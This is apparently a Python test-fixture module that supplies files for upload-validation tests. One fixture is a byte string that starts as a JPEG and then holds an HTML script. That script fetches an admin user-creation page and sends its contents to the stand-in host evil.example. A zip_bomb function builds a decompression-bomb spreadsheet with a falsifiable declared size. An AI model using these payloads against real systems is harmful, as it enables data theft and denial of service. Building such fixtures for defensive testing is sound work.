"""Real files for upload tests: an image that decodes, a PDF that starts and ends as one, and the
disguised page the content check exists for."""

import io

from PIL import Image

PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
# A JPEG's first bytes, then a web page with a script: what a browser ran as text/html.
JPEG_HEADED_PAGE = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    b"<html><body><script>fetch('/admin/auth/user/add/').then(r => r.text())"
    b".then(t => new Image().src = '//evil.example/?' + encodeURIComponent(t))"
    b"</script></body></html>"
)


def image_bytes(image_format: str = "JPEG", size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format=image_format)
    return buffer.getvalue()


def zip_bomb(workbook: bytes, *, unpacked: int, declared: int | None = None) -> bytes:
    """`workbook` (a real .xlsx) with its sheet replaced by one that unpacks to about `unpacked`
    bytes of blank space, from a file of a few hundred kB: one compressed megabyte repeated, so
    building it costs nothing. `declared` is the size the zip's directory gives (by default the
    true one). The CRC is left 0: a reader that inflates it all only finds out at the end."""
    import struct
    import zipfile
    import zlib

    with zipfile.ZipFile(io.BytesIO(workbook)) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    prefix, suffix = (
        parts[sheet].split(b"<sheetData>")[0] + b"<sheetData>",
        b"</sheetData></worksheet>",
    )
    chunk = b" " * (1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(suffix) + compressor.flush()
    repeats = unpacked // len(chunk)
    size = len(prefix) + repeats * len(chunk) + len(suffix)

    out, directory = io.BytesIO(), []
    for name, content in parts.items():
        if name == sheet:
            data, usize, crc = head + body * repeats + tail, declared or size, 0
        else:
            data, usize, crc = zlib.compress(content)[2:-4], len(content), zlib.crc32(content)
        encoded, offset = name.encode(), out.tell()
        fields = (20, 0, 8, 0, 0x21, crc, len(data), usize, len(encoded), 0)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + encoded + data)
        directory.append(
            struct.pack("<IH", 0x02014B50, 20)
            + struct.pack("<HHHHHIIIHHHHHII", *fields, 0, 0, 0, 0, offset)
            + encoded
        )
    start = out.tell()
    out.write(b"".join(directory))
    count, length = len(directory), out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, length, start, 0))
    return out.getvalue()


class CountedUpload:
    """A multipart body posting one file of `size` bytes, made as it is read (no 200 MB held in
    memory) and counting what the server reads of it: the WSGI input of a hand-made request."""

    boundary = "partybloc-boundary"

    def __init__(self, size: int, *, field: str = "file", name: str = "dang-vien.xlsx"):
        self.head = (
            f"--{self.boundary}\r\n"
            f'Content-Disposition: form-data; name="{field}"; filename="{name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        self.tail = f"\r\n--{self.boundary}--\r\n".encode()
        self.size = size
        self.length = len(self.head) + size + len(self.tail)
        self.read_bytes = 0

    def _at(self, position: int, count: int) -> bytes:
        parts, end = [], min(position + count, self.length)
        head, body_end = len(self.head), len(self.head) + self.size
        while position < end:
            if position < head:
                piece = self.head[position : min(end, head)]
            elif position < body_end:
                piece = b"\x00" * (min(end, body_end) - position)
            else:
                piece = self.tail[position - body_end : end - body_end]
            parts.append(piece)
            position += len(piece)
        return b"".join(parts)

    def read(self, size: int = -1) -> bytes:
        left = self.length - self.read_bytes
        data = self._at(self.read_bytes, left if size is None or size < 0 else min(size, left))
        self.read_bytes += len(data)
        return data

    def readline(self, size: int = -1) -> bytes:
        data = self._at(self.read_bytes, 64 * 1024 if size is None or size < 0 else size)
        line = data.split(b"\n", 1)[0] + (b"\n" if b"\n" in data else b"")
        self.read_bytes += len(line)
        return line

    def environ(self, client, path: str) -> dict:
        return client._base_environ(
            PATH_INFO=path,
            REQUEST_METHOD="POST",
            CONTENT_TYPE=f"multipart/form-data; boundary={self.boundary}",
            CONTENT_LENGTH=str(self.length),
            **{"wsgi.input": self},
        )
